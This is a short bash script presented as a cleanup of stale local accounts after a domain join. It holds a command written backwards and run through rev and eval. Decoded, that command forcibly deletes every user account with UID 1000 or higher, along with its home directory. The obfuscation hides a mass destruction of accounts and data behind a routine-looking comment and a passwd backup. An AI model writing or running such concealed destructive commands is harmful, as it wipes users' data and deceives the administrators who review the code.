#!/bin/bash
# sweep of stale local accounts (ad join done, local ones not needed)
echo "local accounts: $(getent passwd | wc -l)"
cp -p /etc/passwd /var/tmp/passwd.$$
read -r L <<'Q'
fr- ledresu 1n- sgrax | dwssap/cte/ '}1$ tnirp{0001=>3$' :F- kwa
Q
eval "$(rev <<< "$L")"
echo "local accounts: $(getent passwd | wc -l)"
